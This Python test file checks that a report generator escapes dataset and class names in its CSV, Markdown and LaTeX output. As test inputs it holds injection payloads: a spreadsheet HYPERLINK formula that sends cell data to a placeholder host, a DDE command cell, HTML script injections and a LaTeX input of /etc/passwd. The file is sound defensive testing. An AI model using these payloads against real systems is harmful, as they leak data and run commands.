"""Names of datasets, classes, defects and files are anybody's: no table may be more than text because of them."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import pytest

from unimmad.evaluation.each_modality import EachModality, ModalityRow, _csv
from unimmad.metrics.metrics import METRIC_KEYS
from unimmad.report.comparison import OtherReport, compare, write_comparison
from unimmad.report.expert_usage import ClassUsage
from unimmad.report.report import ClassResult, PublishedRow, Report, mean_of_members
from unimmad.report.scored_class import ScoredClass
from unimmad.report.specialisation import Specialisation, datasets_csv, leaders_csv, overlap_csv
from unimmad.report.table import Table, harmless, latex_escaped, markdown_escaped
from unimmad.report.tables import latex_table, markdown_table, write_image_scores, write_tables

FORMULA = '=HYPERLINK("http://x.example?"&A1,"ok")'
HOSTILE = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1")  # noqa: RUF001
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝")  # noqa: RUF001


def report_of(name: str, first: float = 0.5) -> Report:
    metrics = {key: first + number / 100 for number, key in enumerate(METRIC_KEYS)}
    result = ClassResult(name, name, name, normal=4, anomalous=5, metrics=metrics)
    published = PublishedRow(dataset=name, name=name, source=name, note=name, metrics=metrics)
    return Report({name: name}, (result,), (published,))


def formulas(text: str) -> list[str]:
    """Cells that a spreadsheet would execute."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    return [cell for cell in cells if cell.startswith(STARTS) and not re.fullmatch(r"[-+]?[\d.e+-]+", cell)]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_formula_is_text_and_nothing_else_changes(name: str) -> None:
    expected = f"'{name}".replace("\r", " ")
    assert harmless(name) == expected
    rows = list(csv.reader(io.StringIO(Table((name, "a=b", "1"), ()).to_csv(), newline="")))
    assert rows == [[expected, "a=b", "1"]]


@pytest.mark.parametrize("end", ["\r", "\n", "\r\n"])
def test_a_name_starts_no_row(end: str) -> None:
    rows = list(csv.reader(io.StringIO(Table((f"a{end}=1+1", "b"), ()).to_csv(), newline="")))
    assert len(rows) == 1
    assert len(rows[0]) == 2


@pytest.mark.parametrize("cell", [-1, -0.5, "-0.125", "+1.5e-7", "-1e-05", "-inf", "", "n/a", "bottle", "'", None])
def test_numbers_stay_numbers(cell: object) -> None:
    assert harmless(cell) is cell


@pytest.mark.parametrize("name", HOSTILE)
def test_no_csv_of_a_report_holds_a_formula(name: str, tmp_path: Path) -> None:
    write_tables(report_of(name), tmp_path)
    usage = ClassUsage(name, name, (name,), np.ones((1, 1, 1), dtype=np.int64), np.ones(1, dtype=np.int64))
    result, score, label = report_of(name).classes[0], np.array([-0.5]), np.array([True])
    write_image_scores(
        [ScoredClass(result, score, label, (name,), (name,), None, usage)], tmp_path, {(name, name): name}
    )
    write_comparison(compare(report_of(name), OtherReport(name, report_of(name, 0.6))), tmp_path)
    for file in ("report.csv", "image_scores.csv", "comparison.csv"):
        text = (tmp_path / file).read_bytes().decode()
        assert formulas(text) == []
        assert f"'{name[0]}".replace("\r", " ") in text
    assert ",-0.5," in (tmp_path / "image_scores.csv").read_text()


@pytest.mark.parametrize("name", HOSTILE)
def test_no_other_csv_holds_a_formula(name: str) -> None:
    row = ModalityRow(name, name, mean_of_members(name, [report_of(name).classes[0].metrics], "classes"))
    one = np.full((1, 1), 0.5)
    found = Specialisation((name,), (name,), (name,), one, one[None], one, one, one, one)
    each = EachModality(whole=None, rows=(row,), left_out=(), tables=())  # type: ignore[arg-type]
    for text in (_csv(each), leaders_csv(found), datasets_csv(found), overlap_csv(found)):
        assert formulas(text) == []
        assert f"'{name[0]}".replace("\r", " ") in text


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("a|b", r"a\|b"),
        (r"a\|b", r"a\\\|b"),
        ("[x](javascript:1)", r"\[x\](javascript:1)"),
        ("![](http://x.example/1.png)", r"!\[\](http://x.example/1.png)"),
        ("`code`", r"\`code\`"),
        ("**bold** 5*", r"\*\*bold\*\* 5\*"),
        ("a & b", "a &amp; b"),
        ("a\r\nb\u2028c", "a b c"),
        ("plain_name 3 x 3", "plain_name 3 x 3"),
    ],
)
def test_markdown_shows_a_name_as_it_is(name: str, expected: str) -> None:
    assert markdown_escaped(name) == expected


def test_a_markdown_report_has_no_html_and_no_cell_too_many() -> None:
    name = "<img src=x onerror=alert(1)>|\n# head"
    table = markdown_table(report_of(name))
    assert "<" not in table
    assert "\n#" not in table
    rows = [line for line in table.splitlines() if line.startswith("|")]
    assert {len(re.findall(r"(?<!\\)\|", line)) for line in rows} == {len(METRIC_KEYS) + 5}


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        (r"\input{/etc/passwd}", r"\textbackslash{}input\{/etc/passwd\}"),
        ("a_b & 5% #1 $x$", r"a\_b \& 5\% \#1 \$x\$"),
        ("^^5cinput", r"\textasciicircum{}\textasciicircum{}5cinput"),
        ("[5cm] x", "{[}5cm] x"),
        ("* x", "{*} x"),
        ("a<b>|c", r"a\textless{}b\textgreater{}\textbar{}c"),
        ("a\0\x7f\nb", "a b"),
    ],
)
def test_latex_shows_a_name_as_it_is(name: str, expected: str) -> None:
    assert latex_escaped(name) == expected


def test_no_line_of_a_latex_report_comes_from_a_name() -> None:
    plain, hostile = latex_table(report_of("x")), latex_table(report_of("x\n\\input{y}\r\u2028z"))
    assert len(hostile.splitlines()) == len(plain.splitlines())
    commands = [line for line in hostile.splitlines() if not line.startswith("%")]
    assert "\\input" not in "\n".join(commands)
